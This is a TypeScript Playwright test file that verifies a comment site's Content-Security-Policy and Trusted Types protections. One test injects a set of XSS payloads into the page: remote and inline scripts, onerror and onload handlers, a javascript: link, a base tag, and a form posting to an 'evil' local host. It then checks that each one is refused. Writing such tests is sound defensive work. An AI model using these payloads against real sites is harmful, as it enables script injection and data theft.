import { readdirSync, readFileSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { BrowserContext, Page } from 'playwright-core'
import { beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import type { ArticleId } from '../../src/domain/ids.ts'
import { openTranscript } from '../../src/hosts/transcriptApi.ts'
import { readPolicy } from '../../src/page/policy.ts'
import { buildForNode } from '../bench/buildForNode.ts'
import { generateDiscussionTranscript } from '../support/generateTranscript.ts'
import { seeHydrated } from '../support/holdModule.ts'
import { isOnServer } from '../support/host.ts'
import { cutOff, DIST, NO_NETWORK, seeFollowed, seeKept } from '../support/keptPage.ts'
import { layoutShift } from '../support/layoutShift.ts'
import { openPage, type PageOptions } from '../support/openPage.ts'
import { BUILT_SERVER } from '../support/site/site.ts'
import { startStaticHost } from '../support/staticHost.ts'
import { postComment, seeKerry } from './flows.ts'

declare global {
  interface Window {
    tellRefused(text: string): void
  }
}

/** The folder of the pages that the host has. */
const BUILT = isOnServer ? join(BUILT_SERVER, 'site') : DIST

const KERRY = '/articles/kerry-to-urge-china.html'

test('every built page has the policy first in its head, before its encoding is to be told, with nothing unsafe', () => {
  const names = readdirSync(BUILT, { recursive: true, encoding: 'utf8' }).filter((name) =>
    name.endsWith('.html'),
  )
  expect(names.length).toBeGreaterThan(2)
  for (const name of names) {
    const html = readFileSync(join(BUILT, name), 'utf8').replace(/\s+/g, ' ')
    expect(html).toMatch(/<head> ?<meta http-equiv="Content-Security-Policy" content="default-src 'none'; /)
    expect(html.indexOf('charset="utf-8"')).toBeLessThan(1000)
    expect(readPolicy(html)).not.toMatch(/unsafe|\*|data:|blob:/)
    // The page of frames asks whatever backend its discussion is of, and leads where the page around it is.
    if (!name.endsWith('embed-frame.html')) expect(readPolicy(html)).not.toContain('http:')
  }
})

describe('nothing is refused by the policy', () => {
  test('at the first visit and the next ones, when a comment is posted, answered and folded', async () => {
    const { page, refused } = await openWatched('/')
    for (let visit = 1; visit <= 3; visit += 1) {
      await seeKerry(page)
      await seeFollowed(page)
      await page.reload()
    }
    await postComment(page, 'Pete', 'Said under a policy.')
    await page.getByRole('status').getByText('Comment posted').waitFor()
    await page.getByRole('button', { name: 'Reply to wjm' }).click()
    const reply = page.getByRole('form', { name: 'Reply to wjm' })
    await reply.getByRole('textbox', { name: 'Your reply' }).fill('Answered under a policy.')
    await reply.getByRole('button', { name: 'Post reply' }).click()
    await page.getByRole('article', { name: 'Reply by Pete to wjm' }).waitFor()
    await page.getByRole('button', { name: 'Collapse thread by john smith' }).click()
    await page.getByRole('button', { name: 'Expand thread by john smith, 4 replies' }).click()
    await page.getByRole('combobox', { name: 'Theme' }).selectOption('dark')
    await page.getByRole('combobox', { name: 'Sort by' }).selectOption('oldest')
    await seeKerry(page)
    expect(refused).toEqual([])
  })

  test.skipIf(isOnServer)(
    'on the bare page, on one that was drawn for its article, and when all is set back',
    async () => {
      const { page, refused } = await openWatched('/bare.html')
      await seeKerry(page)
      await page.goto(KERRY)
      await seeHydrated(page)
      await page.goto('/?reset')
      const dialog = page.getByRole('dialog')
      await dialog.getByRole('button').last().click()
      await dialog.waitFor({ state: 'hidden' })
      await seeKerry(page)
      expect(refused).toEqual([])
    },
  )

  test.skipIf(isOnServer)('where another article is asked for than the one that came', async () => {
    const host = await startStaticHost(DIST)
    onTestFinished(host.stop)
    const { page, refused } = await openWatched('/?article=another', {
      origin: host.origin,
      expected: [/404/],
    })
    await page.getByRole('heading', { level: 1, name: 'Article not found' }).waitFor()
    expect(refused).toEqual([])
  })

  test.skipIf(isOnServer)('without a network', async () => {
    const host = await startStaticHost(DIST)
    onTestFinished(host.stop)
    const options = { origin: host.origin, expected: [NO_NETWORK] }
    const { page, context, refused } = await openWatched('/', options)
    await seeKept(page, host)
    await cutOff(context, host)
    await page.reload()
    await seeFollowed(page)
    await postComment(page, 'Pete', 'Said without a network.')
    await page.getByRole('status').getByText('Comment posted').waitFor()
    expect(refused).toEqual([])
  })

  test('where scripts are off', async () => {
    const { page } = await openPage('/', { javaScript: false })
    const form = page.locator('#form-new')
    expect(await form.evaluate((element) => getComputedStyle(element).display)).toBe('none')
    expect(await page.locator('main').evaluate((element) => getComputedStyle(element).display)).not.toBe('')
  })
})

describe('a page of a large discussion', () => {
  const articleId = 'generated-1000' as ArticleId
  let html: string

  beforeAll(async () => {
    const path = buildForNode('src/prerender.tsx', { NODE_ENV: 'production' })
    const { renderPage } = (await import(
      pathToFileURL(path).href
    )) as typeof import('../../src/prerender.tsx')
    const api = await openTranscript(generateDiscussionTranscript({ seed: 20130411, count: 1000 }), articleId)
    html = await renderPage({
      api,
      articleId,
      template: await readFile(join(BUILT, isOnServer ? 'index.html' : 'bare.html'), 'utf8'),
    })
  })

  test('has room for what is not drawn yet, without any attribute that the policy would refuse', async () => {
    expect(html).not.toMatch(/<[a-z][^<>]* (style|on\w+)=/)
    const { page, refused } = await openWatched('about:blank')
    await page.route(`/?article=${articleId}`, (route) =>
      route.fulfill({ contentType: 'text/html; charset=utf-8', body: html }),
    )
    await page.goto(`/?article=${articleId}`)
    const batches = page.locator('[data-style]')
    const rooms = () =>
      batches.evaluateAll((all) => all.map((each) => getComputedStyle(each).containIntrinsicBlockSize))
    const before = await rooms()
    expect(before.length).toBeGreaterThan(3)
    expect(before.filter((size) => !/^auto [1-9][\d.]*px$/.test(size))).toEqual([])
    await seeHydrated(page)
    expect(await rooms()).toEqual(before)
    expect(await layoutShift(page)).toBeLessThan(0.02)
    expect(refused).toEqual([])
  })
})

describe('what an attacker puts into a page', () => {
  test('does not run, loads nothing, sends nothing elsewhere, and the page works on', async () => {
    const evil = await startStaticHost(DIST)
    onTestFinished(evil.stop)
    const expected = [/Content Security Policy|violates/, /other origin/]
    const { page, refused } = await openWatched('about:blank', { expected })
    const injected = `<base href="${evil.origin}/">
      <script>globalThis.ran = 'script'</script>
      <script src="${evil.origin}/x.js"></script>
      <script src="data:text/javascript,globalThis.ran='data'"></script>
      <img src="${evil.origin}/x.png" onerror="globalThis.ran = 'handler'">
      <svg onload="globalThis.ran = 'svg'"></svg>
      <style>h1 { display: none }</style>
      <p style="color: red">Styled</p>
      <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
      <object data="${evil.origin}/x"></object>
      <form id="stolen" action="${evil.origin}/"><button>Send</button></form>
      <a id="pressed" href="javascript:globalThis.ran = 'link'">Press</a>`
    await page.route('/', async (route) => {
      const response = await route.fetch()
      const body = (await response.text()).replace('<body>', () => `<body>${injected}`)
      await route.fulfill({ response, body })
    })
    await page.goto('/')
    await seeHydrated(page)
    await page.getByRole('heading', { level: 1, name: /Kerry/ }).waitFor()
    await page.evaluate(() => {
      document.querySelector<HTMLElement>('#pressed')?.click()
      document.querySelector<HTMLFormElement>('#stolen')?.requestSubmit()
    })
    const directives = ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr']
    await expect
      .poll(() => refused.map((text) => text.split(' ')[0]))
      .toEqual(expect.arrayContaining([...directives, 'base-uri', 'img-src', 'object-src', 'form-action']))
    expect(await page.evaluate(() => Object.keys(globalThis).filter((name) => name === 'ran'))).toEqual([])
    expect(evil.asked).toEqual([])
    expect(page.url()).not.toContain(evil.origin)
  })

  test('becomes neither markup nor code through the page, nor a policy that would allow it', async () => {
    const { page } = await openPage('/', { expected: [/TrustedHTML|TrustedScript|trusted|Trusted|eval/] })
    await seeFollowed(page)
    const refusals = await page.evaluate(async () => {
      // What a debugger runs at once may do more than a page.
      await new Promise((resolve) => setTimeout(resolve))
      // Each is what the policy is there to refuse.
      const attempts: Record<string, () => unknown> = {
        markup: () => (document.body.innerHTML = '<img>'),
        code: () => Function('return 1')(),
        worker: () => new Worker('/assets/any.js'),
        policy: () => window.trustedTypes?.createPolicy('another', { createScriptURL: (url) => url }),
        again: () => window.trustedTypes?.createPolicy('soundoff-worker', { createScriptURL: (url) => url }),
      }
      return Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt()
          return []
        } catch {
          return [name]
        }
      })
    })
    expect(refusals).toEqual(['markup', 'code', 'worker', 'policy', 'again'])
  })
})

/** The page, and what its policy refuses, directive first, as it comes. */
async function openWatched(
  path: string,
  options: PageOptions = {},
): Promise<{ page: Page; context: BrowserContext; refused: string[] }> {
  const refused: string[] = []
  const { page, context } = await openPage('about:blank', options)
  await context.exposeFunction('tellRefused', (text: string) => void refused.push(text))
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      window.tellRefused(`${effectiveDirective} ${blockedURI} ${sample}`)
    })
  })
  if (path !== 'about:blank') await page.goto(path)
  return { page, context, refused }
}
